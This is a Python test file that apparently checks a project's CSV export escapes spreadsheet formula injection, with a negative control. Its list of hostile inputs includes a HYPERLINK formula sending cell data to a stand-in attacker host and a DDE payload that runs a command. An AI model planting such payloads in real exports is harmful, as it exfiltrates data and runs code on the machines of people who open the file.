"""No text of anybody runs as a formula in a spreadsheet."""

from __future__ import annotations

import csv
import re
from io import StringIO
from pathlib import Path

import pytest

from corridor.core import sheets
from corridor.core.sheets import csv_of

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "＝1+1",
]
# Writes invented rosters, which are read back by an import and never by a person.
OF_MACHINES = {"corridor/rostering/sample/write.py", "corridor/core/sheets.py"}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_told_as_text(text: str) -> None:
    ((told, number),) = csv.reader(StringIO(csv_of([[text, -5]]), newline=""))

    assert told == f"'{text}"
    assert number == "-5", "numbers stay what they are"


@pytest.mark.parametrize("text", ["Maya", "O’Neill-Smith", "12-3", "", 'say "hi", twice'])
def test_usual_text_stays_as_it_is(text: str) -> None:
    assert list(csv.reader(StringIO(csv_of([[text]]))))[0] == [text]


def test_without_the_care_a_formula_would_run(monkeypatch: pytest.MonkeyPatch) -> None:
    """Negative control."""
    monkeypatch.setattr(sheets, "FORMULA", ("\x00",))

    assert csv_of([["=1+1"]]).startswith('"=')


def test_tables_for_people_are_made_in_one_place_only() -> None:
    makers = {
        str(module)
        for module in Path("corridor").rglob("*.py")
        if re.search(r"csv\.(Dict)?[wW]riter|text/(csv|tab-separated)|ms-excel", module.read_text())
    }
    assert makers <= OF_MACHINES | {
        str(m) for m in makers if "sheets import" in Path(m).read_text()
    }
